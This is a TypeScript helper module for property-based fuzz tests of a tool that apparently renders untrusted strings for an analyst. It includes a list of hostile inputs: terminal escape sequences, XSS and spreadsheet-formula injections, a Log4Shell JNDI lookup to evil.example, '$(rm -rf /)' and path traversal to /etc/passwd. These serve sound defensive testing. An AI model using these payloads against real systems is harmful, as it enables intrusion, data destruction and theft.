/**
 * Shared settings for the property-based (fast-check) suites.
 *
 * `npm test` runs every property with a fixed seed and a small number of runs, so it is reproducible and takes
 * seconds. `npm run fuzz` sets KDR_FUZZ=long: a random seed (or KDR_FUZZ_SEED), many more runs (KDR_FUZZ_RUNS
 * per property, default 20× the short count), and a line per suite on stdout with the seed and what was tried.
 * A failure prints fast-check's seed and path; rerun it with KDR_FUZZ_SEED=<seed>.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';

export const LONG = process.env.KDR_FUZZ === 'long';
const FIXED_SEED = 0x6b6472;

function seedFromEnv(): number {
  const given = Number(process.env.KDR_FUZZ_SEED);
  if (Number.isInteger(given) && process.env.KDR_FUZZ_SEED !== '') return given;
  return LONG ? Math.floor(Math.random() * 0x7fffffff) : FIXED_SEED;
}

export const SEED = seedFromEnv();

/** Runs for a property: `short` in `npm test`, many more in `npm run fuzz`. */
export function runs(short: number): number {
  if (!LONG) return short;
  const perProperty = Number(process.env.KDR_FUZZ_RUNS);
  return Number.isInteger(perProperty) && perProperty > 0 ? perProperty : short * 20;
}

/** Counters a suite reports at the end of a long run. */
export class Tally {
  private readonly counts = new Map<string, number>();
  constructor(readonly suite: string) {}
  add(name: string, by = 1): void {
    this.counts.set(name, (this.counts.get(name) ?? 0) + by);
  }
  get(name: string): number {
    return this.counts.get(name) ?? 0;
  }
  line(): string {
    const parts = [...this.counts].sort(([a], [b]) => (a < b ? -1 : a > b ? 1 : 0)).map(([k, v]) => `${k}=${v}`);
    return `fuzz ${this.suite}: seed=${SEED} ${parts.join(' ')}`;
  }
  /** Printed in long runs only, so `npm test` stays quiet. */
  report(): void {
    if (LONG) process.stdout.write(`${this.line()}\n`);
  }
}

/** fc.assert with the shared seed; the error names the seed so a failure can be replayed. */
export async function check<T>(property: fc.IAsyncPropertyWithHooks<T> | fc.IPropertyWithHooks<T>, shortRuns: number, tally?: Tally, options: { shrink?: boolean } = {}): Promise<void> {
  // Shrinking re-runs the property many times: off where one run is expensive (a child process).
  const parameters = { seed: SEED, numRuns: runs(shortRuns), endOnFailure: options.shrink === false } as const;
  tally?.add('properties');
  tally?.add('runs', parameters.numRuns);
  if ('isAsync' in property && property.isAsync()) await fc.assert(property as fc.IAsyncPropertyWithHooks<T>, parameters);
  else fc.assert(property as fc.IPropertyWithHooks<T>, parameters);
}

/** A scratch directory removed by the returned function. */
export function scratch(prefix: string): { dir: string; remove: () => void } {
  const dir = mkdtempSync(join(tmpdir(), `kdr-${prefix}-`));
  return { dir, remove: () => rmSync(dir, { recursive: true, force: true }) };
}

/** Timeout for one property test: generous in long runs (minutes), small otherwise. */
export const TIMEOUT = LONG ? 30 * 60_000 : 60_000;

// ---------------------------------------------------------------------------------------------------------------
// Hostile strings

/** What an attacker puts in a command line or host name to reach the analyst's terminal or spreadsheet. */
export const HOSTILE_SNIPPETS = [
  '\x1b[2J\x1b[H',
  '\x1b[31mred\x1b[0m',
  '\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07',
  '\x1b]0;owned title\x07',
  '\x1bP+q544e\x1b\\',
  '\x9b31m',
  '\x9d0;c1 title\x9c',
  '\x85next',
  '\u202eexe.txt\u202c',
  '\u2066isolate\u2069',
  '\u202aembed\u202b\u202d',
  '\u061c\u200e\u200f',
  '\r\n',
  '\r',
  '\u2028\u2029',
  '\x00',
  '\x7f',
  '\x08\x08\x08',
  '=HYPERLINK("http://evil.example","x")',
  '+cmd|/c calc!A1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  '**bold** _em_ [link](javascript:alert(1)) ![i](http://x/y.png)',
  '| table | pipe |',
  '`code` ``` fence',
  '# heading',
  '@here @channel',
  '&amp; &#x41;',
  ']]><!--',
  '\ud800',
  '\udfff',
  '\ufeff',
  '%s%n%x',
  '${jndi:ldap://evil.example/a}',
  '$(rm -rf /)',
  '../../../../etc/passwd',
];

/** Strings that mix ordinary text with hostile snippets and arbitrary code units (lone surrogates included). */
export const hostileString = (maxLength = 60): fc.Arbitrary<string> =>
  fc.oneof(
    { weight: 3, arbitrary: fc.string({ maxLength, unit: 'binary' }) },
    { weight: 3, arbitrary: fc.array(fc.oneof(fc.constantFrom(...HOSTILE_SNIPPETS), fc.string({ maxLength: 8 })), { maxLength: 6 }).map((parts) => parts.join('')) },
    { weight: 1, arbitrary: fc.string({ maxLength, unit: fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c)) }) },
  );

/** Any JSON-ish value, with deep nesting and wrong types mixed in. */
export const wildValue: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    fc.constant(null),
    fc.boolean(),
    fc.integer(),
    fc.double(),
    fc.constantFrom(0, -1, 2 ** 53 + 1, Number.MAX_SAFE_INTEGER, 1e308, -0),
    hostileString(),
    fc.array(tie('value'), { maxLength: 4 }),
    fc.dictionary(hostileString(12), tie('value'), { maxKeys: 4 }),
  ),
})).value;

/** A value nested `depth` levels deep in arrays or objects. */
export function deeplyNested(depth: number, leaf: unknown = 'x', asArray = false): unknown {
  let v = leaf;
  for (let i = 0; i < depth; i++) v = asArray ? [v] : { a: v };
  return v;
}
